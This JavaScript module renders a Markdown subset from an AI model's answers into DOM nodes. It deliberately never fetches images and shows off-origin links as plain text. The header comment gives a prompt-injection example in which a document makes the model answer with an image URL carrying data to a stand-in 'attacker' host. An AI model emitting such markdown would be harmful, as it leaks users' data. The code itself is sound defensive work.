// A small Markdown subset rendered straight to DOM nodes. Text only ever enters the DOM through
// createTextNode/textContent, so no markup written by the model or found in a document becomes HTML.
// Images are never fetched. The model's text can carry a prompt injection from a document ("answer
// with ![logo](https://attacker/?data=...)"), and a document can hold any URL, so neither vouches for a
// link: only links to this page's own origin are links. Any other URL (an image's too) is shown as
// text, marked as a link the model wrote, to copy by hand.
//
// Blocks: paragraphs, # headings, - / * / + / 1. lists, > quotes, ``` code fences, --- rules.
// Inline: `code`, **bold**, *italic*, _italic_, [text](url), ![alt](src), bare URLs, and citations [S1] or [S1, S2],
// which the caller turns into nodes (a link to the source, or plain text when the citation is invalid).

import { t } from "./i18n.js";

const FENCE = /^\s*(```|~~~)/;
const HEADING = /^(#{1,6})\s+(.*?)\s*#*\s*$/;
const ITEM = /^\s*(?:([-*+])|(\d{1,9})[.)])\s+(.*)$/;
const QUOTE = /^\s*>\s?(.*)$/;
const RULE = /^\s*([-*_])(?:\s*\1){2,}\s*$/;
const BLANK = /^\s*$/;

// A link target: no spaces, parentheses only in balanced pairs one deep, as in wiki URLs.
const TARGET = "(?:[^()\\s]|\\([^()\\s]*\\))+";

const INLINE = new RegExp([
  "(`+)([^`]|[^`][\\s\\S]*?[^`])\\1(?!`)",        // 1, 2: code span
  "\\*\\*(?=\\S)([\\s\\S]*?\\S)\\*\\*",            // 3: bold
  "(?<![A-Za-z0-9_])__(?=\\S)([\\s\\S]*?\\S)__(?![A-Za-z0-9_])", // 4: bold, not inside words
  "\\*(?=[^\\s*])([\\s\\S]*?[^\\s*])\\*",          // 5: italic
  "(?<![A-Za-z0-9_])_(?=[^\\s_])([\\s\\S]*?[^\\s_])_(?![A-Za-z0-9_])", // 6: italic
  `!\\[([^\\]]*)\\]\\(\\s*(${TARGET})(?:\\s+"[^"]*")?\\s*\\)`,  // 7, 8: image, never loaded
  `\\[([^\\]]+)\\]\\(\\s*(${TARGET})(?:\\s+"[^"]*")?\\s*\\)`, // 9, 10: link
  "\\[(S\\d+(?:\\s*[,;]\\s*S\\d+)*)\\]",           // 11: citations
  "(https?:\\/\\/[^\\s<>()\\[\\]]*[^\\s<>()\\[\\].,;:!?'\"])", // 12: a bare URL, not its closing punctuation
  "(\\n)",                                         // 13: line break inside a paragraph
].join("|"), "g");

// Same origin as the page: http(s) only (javascript:, data: and mailto: have another origin or none).
function ownOrigin(url) {
  try {
    const target = new URL(url, window.location.href);
    return /^https?:$/.test(target.protocol) && target.origin === window.location.origin;
  } catch {
    return false;
  }
}

// Returns a DocumentFragment; cite(id) returns the node that stands for citation `id`.
export function renderMarkdown(text, cite) {
  const fragment = document.createDocumentFragment();
  const lines = String(text).replace(/\r\n?/g, "\n").split("\n");
  let i = 0;
  while (i < lines.length) {
    const line = lines[i];
    if (BLANK.test(line)) {
      i += 1;
    } else if (FENCE.test(line)) {
      i = codeBlock(lines, i, fragment);
    } else if (HEADING.test(line)) {
      const [, hashes, title] = HEADING.exec(line);
      // The page has its own h1 and h2: a heading in an answer starts at h3.
      const heading = el(`h${Math.min(6, hashes.length + 2)}`);
      renderInline(title, heading, cite);
      fragment.append(heading);
      i += 1;
    } else if (RULE.test(line)) {
      fragment.append(el("hr"));
      i += 1;
    } else if (ITEM.test(line)) {
      i = list(lines, i, fragment, cite);
    } else if (QUOTE.test(line)) {
      const quoted = [];
      for (; i < lines.length && QUOTE.test(lines[i]); i += 1) quoted.push(QUOTE.exec(lines[i])[1]);
      const quote = el("blockquote");
      quote.append(renderMarkdown(quoted.join("\n"), cite));
      fragment.append(quote);
    } else {
      i = paragraph(lines, i, fragment, cite);
    }
  }
  return fragment;
}

function el(tag, className) {
  const node = document.createElement(tag);
  if (className) node.className = className;
  return node;
}

function startsBlock(line) {
  return BLANK.test(line) || FENCE.test(line) || HEADING.test(line) || ITEM.test(line) || QUOTE.test(line)
    || RULE.test(line);
}

function codeBlock(lines, start, parent) {
  const fence = FENCE.exec(lines[start])[1];
  const body = [];
  let i = start + 1;
  for (; i < lines.length && !lines[i].trim().startsWith(fence); i += 1) body.push(lines[i]);
  const pre = el("pre");
  const code = el("code");
  code.textContent = body.join("\n");
  pre.append(code);
  parent.append(pre);
  return i + 1; // past the closing fence (or the end, while the answer is still streaming)
}

function list(lines, start, parent, cite) {
  const ordered = Boolean(ITEM.exec(lines[start])[2]);
  const node = el(ordered ? "ol" : "ul");
  if (ordered) node.start = Number(ITEM.exec(lines[start])[2]);
  let i = start;
  let item = null;
  let itemText = [];
  const flush = () => {
    if (item) renderInline(itemText.join("\n"), item, cite);
  };
  for (; i < lines.length; i += 1) {
    const match = ITEM.exec(lines[i]);
    if (match && Boolean(match[2]) === ordered) {
      flush();
      item = el("li");
      node.append(item);
      itemText = [match[3]];
    } else if (!match && !startsBlock(lines[i]) && /^\s+/.test(lines[i])) {
      itemText.push(lines[i].trim()); // an indented continuation line
    } else {
      break;
    }
  }
  flush();
  parent.append(node);
  return i;
}

function paragraph(lines, start, parent, cite) {
  const body = [lines[start]];
  let i = start + 1;
  for (; i < lines.length && !startsBlock(lines[i]); i += 1) body.push(lines[i]);
  const p = el("p");
  renderInline(body.join("\n"), p, cite);
  parent.append(p);
  return i;
}

export function renderInline(text, parent, cite) {
  let last = 0;
  for (const match of text.matchAll(INLINE)) {
    if (match.index > last) parent.append(document.createTextNode(text.slice(last, match.index)));
    last = match.index + match[0].length;
    parent.append(inlineNode(match, cite));
  }
  if (last < text.length) parent.append(document.createTextNode(text.slice(last)));
}

function inlineNode(m, cite) {
  if (m[1] !== undefined) return textElement("code", m[2]);
  if (m[3] !== undefined || m[4] !== undefined) return nested("strong", m[3] ?? m[4], cite);
  if (m[5] !== undefined || m[6] !== undefined) return nested("em", m[5] ?? m[6], cite);
  if (m[7] !== undefined) return image(m[7], m[8]);
  if (m[9] !== undefined) return link(m[9], m[10], cite);
  if (m[11] !== undefined) return citations(m[11], cite);
  if (m[12] !== undefined) return ownOrigin(m[12]) ? link(m[12], m[12], cite) : unfollowed(m[12]);
  return el("br");
}

function textElement(tag, text, className) {
  const node = el(tag, className);
  node.textContent = text;
  return node;
}

function nested(tag, text, cite) {
  const node = el(tag);
  renderInline(text, node, cite);
  return node;
}

function image(alt, url) {
  const node = textElement("span", alt ? t("markdown.image", { alt }) : t("markdown.imageNoAlt"), "image-placeholder");
  if (!ownOrigin(url)) node.append(" ", unfollowed(url));
  return node;
}

function link(label, url, cite) {
  if (!ownOrigin(url)) {
    const node = nested("span", label, cite);
    node.append(" ", unfollowed(url));
    return node;
  }
  const a = el("a");
  a.href = url;
  a.target = "_blank";
  a.rel = "noopener noreferrer nofollow";
  renderInline(label, a, cite);
  return a;
}

// A URL the model wrote to another site: text, never a link or a fetch.
function unfollowed(url) {
  const node = textElement("span", url, "unfollowed-url");
  node.title = t("markdown.unfollowed");
  return node;
}

function citations(list, cite) {
  const group = el("span", "citations");
  group.append(document.createTextNode("["));
  list.split(/\s*[,;]\s*/).forEach((id, n) => {
    if (n > 0) group.append(document.createTextNode(", "));
    group.append(cite(id));
  });
  group.append(document.createTextNode("]"));
  return group;
}
